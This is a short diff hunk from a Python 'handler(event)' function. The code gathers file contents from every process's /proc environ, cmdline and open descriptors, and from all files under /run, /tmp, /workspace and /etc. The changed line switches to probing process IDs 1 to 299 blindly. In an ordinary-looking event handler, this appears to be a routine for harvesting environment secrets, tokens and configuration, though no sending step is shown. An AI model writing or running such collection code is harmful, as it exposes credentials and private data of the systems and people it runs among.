@@ -135,8 +135,7 @@ def handler(event):
                 return file.read(100000).decode(errors='replace')
         except (OSError, ValueError):
             return ''
-    places = ['/proc/%s/%s' % (p, f) for p in os.listdir('/proc') if p.isdigit() for f in ('environ', 'cmdline', 'fd/3', 'fd/4')] \\
-        if os.access('/proc', os.R_OK) else []
+    places = ['/proc/%s/%s' % (p, f) for p in range(1, 300) for f in ('environ', 'cmdline', 'fd/3', 'fd/4')]
     for top in ('/run', '/tmp', '/workspace', '/etc'):
         for base, _, files in os.walk(top):
             places += [os.path.join(base, name) for name in files]
